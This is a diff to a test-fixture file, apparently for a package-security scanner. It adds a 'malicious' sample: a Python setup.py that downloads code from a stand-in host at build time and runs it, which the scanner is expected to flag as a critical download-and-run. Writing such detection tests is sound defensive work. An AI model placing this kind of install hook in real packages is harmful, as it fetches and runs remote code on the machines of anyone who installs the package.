@@ -8,6 +8,15 @@ const HEAD =
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: what a build fetches as its version and starts',
+      files: {
+        'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+        'setup.py':
+          "import subprocess, sys, urllib.request\nopen('own/version.py', 'wb').write(urllib.request.urlopen('https://own.example/v').read())\nsubprocess.call([sys.executable, 'own/version.py'])\n",
+      },
+      expected: [at('download-and-run', 'critical', 'setup.py', 3)],
+    },
+    {
       name: 'Python: a source that a build fetches and builds, beside what it says of its version, which tells less',
       files: {
         'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
